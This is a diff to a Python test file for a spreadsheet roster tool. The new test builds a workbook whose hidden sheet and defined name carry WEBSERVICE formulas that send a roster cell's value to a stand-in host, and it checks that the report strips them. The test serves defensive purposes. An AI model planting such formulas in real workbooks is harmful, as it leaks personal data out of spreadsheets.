@@ -64,7 +64,9 @@ def test_numbers_and_phones_are_text_in_the_template_so_that_no_digit_is_lost() 
     columns = zip(ROSTER.keys, "ABCDEFGHIJKL", strict=True)
     formats = {key: sheet.column_dimensions[letter].number_format for key, letter in columns}
     assert {formats[key] for key in ("resident_id", "phone", "enterprise")} == {"@"}
-    lists = {str(found.sqref): found.formula1 for found in sheet.data_validations.dataValidation}
+    rules = sheet.data_validations.dataValidation
+    assert {str(found.sqref) for found in rules if found.type == "date"} == {"E2:E100001", "F2:F100001"}
+    lists = {str(found.sqref): found.formula1 for found in rules if found.type == "list"}
     assert set(lists) == {"B2:B100001", "G2:G100001", "H2:H100001", "I2:I100001"}
 
 
@@ -130,3 +132,24 @@ def test_nothing_is_handed_on_as_a_formula(name: str) -> None:
 def test_dates_stay_dates_in_the_report() -> None:
     sheet = opened(template.report_workbook(samples.xlsx(samples.good_rows()), "r.xlsx", [], ROSTER)).worksheets[0]
     assert sheet["E2"].value == datetime(2025, 3, 1)
+
+
+def test_what_other_sheets_and_names_hold_does_not_travel_on() -> None:
+    target = io.BytesIO()
+    book = xlsxwriter.Workbook(target, {"in_memory": True})
+    sheet, other = book.add_worksheet("名单"), book.add_worksheet("别的")
+    for line, row in enumerate(samples.good_rows()[:2], start=1):
+        sheet.write_row(0, 0, [column.title for column in ROSTER.columns])
+        sheet.write_row(line, 0, [str(row[key]) for key in ROSTER.keys])
+    other.write_formula("A1", '=WEBSERVICE("http://example.org/"&名单!C2)')
+    other.write_string("A2", "secret of another")
+    other.hide()
+    book.define_name("总数", '=WEBSERVICE("http://example.org/")')
+    sheet.set_header("&Lheader of a stranger")
+    book.close()
+    report = template.report_workbook(target.getvalue(), "r.xlsx", PROBLEMS, ROSTER)
+    with zipfile.ZipFile(io.BytesIO(report)) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    for word in ("example.org", "WEBSERVICE", "secret of another", "definedName", "header of a stranger", "<f>"):
+        assert [name for name, part in parts.items() if word.encode() in part] == [], word
+    assert opened(report).sheetnames == [ROSTER.sheet, template.LIST_SHEET]
